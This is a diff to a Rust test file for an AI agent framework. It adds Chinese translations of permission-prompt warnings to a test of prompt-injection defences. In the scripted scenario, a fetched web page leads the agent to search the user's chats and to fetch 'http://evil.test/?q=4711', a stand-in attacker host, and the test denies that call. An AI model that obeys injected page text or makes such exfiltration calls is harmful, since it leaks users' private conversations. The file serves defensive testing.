@@ -32,6 +32,8 @@ use turnleaf::server::service::exports::Which;
 use turnleaf::server::service::providers::Sealer;
 use turnleaf::server::service::toolbox::Tools;
 use turnleaf::server::tools::built_in;
+use turnleaf::ui::locale::{Locale, speak};
+use turnleaf::ui::words::told::told;
 
 use crate::files::{PNG, reading, upload};
 use crate::house::{House, answer, text};
@@ -134,6 +136,11 @@ async fn send(house: &House, chat: ChatId, text: &str) -> TurnId {
     house.send_to(chat, text).await.assistant_turn.id
 }
 
+/// The note of a question as a page in Chinese has it.
+fn in_chinese(ask: &Ask) -> String {
+    speak(Locale::Chinese, || told(ask.note.as_deref().unwrap_or_default()).into_owned())
+}
+
 #[tokio::test]
 async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_reached() {
     for house in House::everywhere(|| Scripted::new("unused", [])).await {
@@ -162,6 +169,7 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
         assert_eq!(internet.reached(), ["page.test/a"]);
         assert_eq!(chats.tool, "search_chats");
         assert!(chats.note.as_deref().is_some_and(|note| note.contains("text that you did not write")), "{chats:?}");
+        assert_eq!(in_chinese(&chats), "此对话含有不是你写的文字，可能是它在要求这样做。");
 
         // The same question after a restart.
         let rest = vec![fetch("http://evil.test/?q=4711"), fetch("http://page.test/b"), search(), done()];
@@ -171,6 +179,7 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
         let evil = question(&house, id, std::slice::from_ref(&chats.hash)).await;
         assert_eq!(evil.title, "Web page (evil.test)");
         assert!(evil.note.as_deref().is_some_and(|note| note.contains("names evil.test")), "{evil:?}");
+        assert_eq!(in_chinese(&evil), "此对话含有不是你写的文字，而你的消息都没有提到 evil.test。");
         house.decide(id, Decision::Deny, None).await.unwrap();
 
         // A host that was allowed runs, whatever was read; one answer about chats was for one call.
